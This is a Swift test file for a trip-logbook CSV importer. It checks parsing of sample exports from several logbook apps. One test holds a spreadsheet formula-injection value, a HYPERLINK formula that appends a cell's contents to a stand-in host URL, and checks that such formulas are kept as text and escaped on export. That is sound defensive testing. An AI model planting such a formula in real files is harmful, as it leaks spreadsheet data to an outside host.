import LogbookModel
import Testing

@testable import TripExchange

/// The layouts that people really have; numbers counted by hand in the files.
@Suite struct SampleTests {
  private func plan(_ name: String, plate: String = "12-ABC-3") throws -> ImportPlan {
    let file = try TripFile(
      name: name, bytes: sample(name), layouts: shippedLayouts, options: options())
    let existing = ExistingTrips(
      vehicles: [try vehicle(1, plate)],
      availabilities: [
        Availability(id: 1, vehicle: 1, from: day("2020-01-01"), beginReading: km(0))
      ])
    return ImportPlan(files: [file], existing: existing, options: options())
  }

  private func totalTenths(_ plan: ImportPlan) -> Int {
    plan.trips.reduce(0) { $0 + $1.distance.tenths }
  }

  @Test func `the eight official columns`() throws {
    let plan = try plan("nl-belastingdienst-velden.csv")
    #expect(plan.files[0].layout == "Belastingdienst")
    #expect(plan.files[0].isBalanced)
    #expect(plan.trips.count == 5)
    #expect(totalTenths(plan) == 1_790)
    #expect(plan.trips.map { $0.kind } == [.business, .business, .private, .private, .business])
    #expect(plan.trips[1].detour == Distance(kilometres: 7))
    #expect(plan.trips[1].route == "A12 afgesloten, via A27 en A15")
    #expect(plan.trips[0].from == "Lindelaan 4, 3511 ZZ Utrecht")
    #expect(plan.trips[0].date == day("2026-01-05"))
    #expect(plan.trips[4].date == day("2026-01-12"))
    #expect(plan.trips[4].end == km(48_389))
    #expect(plan.trips.allSatisfy { $0.measured == nil && $0.derived == nil })
    #expect(plan.trips.allSatisfy { $0.source == "import" })
  }

  @Test func `all fields of the app, quoted, with a line break in a cell`() throws {
    let plan = try plan("nl-app-alle-velden-aangehaald.csv", plate: "ZZ-001-Z")
    #expect(plan.files[0].layout == "Rittenregistratie (app)")
    #expect(plan.trips.count == 4)
    #expect(totalTenths(plan) == 1_070)
    #expect(plan.trips[0].purpose == "Intake Bakkerij \"De Gouden Korst\"")
    #expect(plan.trips[0].departure == ClockTime("08:05"))
    #expect(plan.trips[0].arrival == ClockTime("08:52"))
    #expect(plan.trips[1].note == "Sinterklaasinkopen\r\nin Gorinchem")
    #expect(plan.trips[1].route == "A12 dicht; via A27")
    #expect(plan.trips.map { $0.kind } == [.business, .business, .commute, .private])
    #expect(plan.files[0].decision("genegeerd") == .list([.text("Vastgelegd via")]))
    // 05-01-2026 18:31 is 17:31 UTC.
    #expect(plan.trips[0].recorded == 1_767_634_260)
  }

  @Test(arguments: [
    "variant-excel-nl-windows1252.csv", "variant-excel-utf8-bom.csv",
    "variant-excel-unicode-tekst-utf16le.txt",
  ])
  func `one table in three encodings`(name: String) throws {
    let plan = try plan(name)
    #expect(plan.trips.count == 3)
    #expect(totalTenths(plan) == 950)
    #expect(plan.trips[0].from == "Café ’t Hoekje, Ærøstraat 1, Súdwest-Fryslân")
    #expect(plan.trips[0].to == "Köln, Straße 12")
    #expect(plan.trips[0].begin == km(48_210))
    #expect(plan.trips[0].end == Odometer(tenths: 482_475))
    #expect(plan.trips[1].detour == Distance(tenths: 75))
    #expect(plan.trips[1].note == "Zin met ; puntkomma en \"aanhaling\"")
    #expect(plan.trips[2].kind == .private)
    #expect(plan.files[0].decision("decimaalteken") == .text(","))
  }

  @Test func `decomposed accents, no-break spaces, line breaks in cells, an empty row`() throws {
    let plan = try plan("variant-nfd-nbsp-regeleinden-in-cel.csv")
    #expect(plan.files[0].read == 2)
    #expect(plan.trips.count == 2)
    #expect(plan.trips[0].begin == km(48_210))
    #expect(plan.trips[0].end == km(48_248))
    #expect(plan.trips[0].from == "Lindelaan 4")
    #expect(Array(plan.trips[0].to.utf8) == Array("Café Zeën".utf8))
    #expect(plan.trips[0].kind == .private)
    #expect(plan.trips[0].note == "regel 1\nregel 2")
    #expect(plan.trips[1].kind == .business)
  }

  @Test func `formulas are text, and survive export and import`() throws {
    let plan = try plan("variant-formules.csv")
    #expect(plan.trips.count == 3)
    #expect(
      plan.trips[0].to == "=HYPERLINK(\"http://example.invalid/?x=\"&A2;\"klik\")")
    #expect(plan.trips[1].note == "-5 graden buiten")
    #expect(plan.trips[2].from == "\t=1+1")
    #expect(plan.trips[2].note == "regel\n=2+3")
    let bytes = TripCSV.bytes(of: Array(plan.trips), vehicles: [try vehicle(1, "12-ABC-3")])
    let text = String(decoding: bytes, as: UTF8.self)
    #expect(text.contains(";'-5 graden buiten;"))
    #expect(text.contains(";'\t=1+1;"))
    let again = ImportPlan(
      files: [try read(bytes)], existing: try logbook(), options: options())
    #expect(Array(again.trips) == Array(plan.trips))
  }

  @Test func `a preamble with the plate, and totals at the end`() throws {
    let plan = try plan("nl-pwa-kop-en-totaalregels.csv", plate: "ZZ-002-Z")
    #expect(plan.trips.count == 3)
    #expect(plan.files[0].read == 5)
    #expect(plan.files[0].skipped.map { $0.line } == [11, 12])
    #expect(plan.files[0].isBalanced)
    #expect(totalTenths(plan) == 1_210)
    #expect(plan.trips[1].detour == Distance(tenths: 61))
    #expect(plan.trips[0].arrival == ClockTime("08:38"))
  }

  @Test func `units in the cells, newest row first`() throws {
    let plan = try plan("en-teslamate-dutch-tax.csv")
    #expect(plan.trips.map { $0.begin } == [km(48_210), km(48_248), km(48_317)])
    #expect(plan.trips[0].measured == Distance(tenths: 382))
    #expect(plan.trips[0].departure == ClockTime("08:05"))
    #expect(plan.trips[0].kind == nil)
    #expect(plan.trips[2].date == day("2026-01-12"))
  }

  @Test func `only end readings, with words of its own`() throws {
    let plan = try plan("de-fahrtenbuch-simulator.csv")
    #expect(plan.trips.map { $0.begin } == [km(10_200), km(10_262), km(10_331)])
    #expect(plan.trips.map { $0.end } == [km(10_262), km(10_331), km(10_350)])
    #expect(plan.trips.map { $0.kind } == [.business, .business, .private])
    #expect(plan.trips.allSatisfy { $0.derived == .begin })
    #expect(plan.trips[1].route == "Baumarkt, Gütersloh")
  }

  @Test func `a voided row is skipped`() throws {
    let plan = try plan("de-openfahrtenbuch.csv")
    #expect(plan.files[0].skipped.map { $0.line } == [5])
    #expect(plan.files[0].skipped.map { $0.reason.arguments["woord"] } == [.text("Storniert")])
    #expect(plan.trips.map { $0.kind } == [.business, .business, .private])
    #expect(plan.trips[2].arrival == ClockTime("00:20"))
  }

  @Test func `fuel stops, charging sessions and notes are readings and no trips`() throws {
    let fuel = try plan("en-fuelio-backup.csv", plate: "ZZ-005-Z")
    #expect(fuel.trips.isEmpty)
    #expect(
      fuel.readingLines == [
        "2026-01-02 48180 tank -", "2026-01-06 48301 tank Utrecht", "2026-01-20 48612 tank Utrecht",
      ])
    #expect(fuel.files[0].skipped.map(\.line) == [9, 10, 11])
    #expect(fuel.files[0].isBalanced)
    let notes = try plan("en-vrije-tekst-ankers.txt")
    #expect(
      notes.readingLines == [
        "2026-01-05 48210 overig leaving home", "2026-01-05 48248 overig client",
        "2026-01-05 48293 overig home, detour for groceries",
        "2026-01-10 48293 overig START market", "2026-01-10 48305 overig START market",
      ])
  }

  @Test(arguments: ["nl-ov-chipkaart.csv"])
  func `lists of something else are refused by name`(name: String) throws {
    let bytes = try sample(name)
    let failure = #expect(throws: Failure.self) { try read(bytes) }
    #expect(failure?.key == "fout.import.geen.ritten")
    #expect(failure?.kind == .data)
  }
}
